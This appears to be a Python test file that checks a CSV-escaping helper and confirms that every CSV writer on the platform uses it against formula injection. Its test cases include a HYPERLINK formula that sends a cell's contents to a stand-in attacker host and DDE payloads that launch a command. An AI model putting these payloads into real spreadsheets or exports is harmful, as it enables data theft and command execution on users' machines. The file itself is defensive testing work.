"""CSV injection: text cells that start a formula are written as text, by every CSV writer."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from civic.services.csv_cells import formula_safe, formula_safe_row

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Open")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_formula_is_prefixed_with_a_quote(cell: str) -> None:
    assert formula_safe(cell) == "'" + cell


def test_plain_text_and_numbers_are_unchanged() -> None:
    assert formula_safe_row(["Lyon", "a=b", "", -0.5, 3, None]) == [
        "Lyon",
        "a=b",
        "",
        -0.5,
        3,
        None,
    ]


def test_every_csv_writer_of_the_platform_escapes_its_cells() -> None:
    writers = []
    for folder in ("platform", "services", "connectors"):
        for path in (ROOT / folder).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if re.search(r"csv\.(writer|DictWriter)\(", text):
                writers.append(path)
                assert "formula_safe" in text, f"{path.relative_to(ROOT)} writes CSV unescaped"
    assert len(writers) >= 2  # the report exports and the usage report
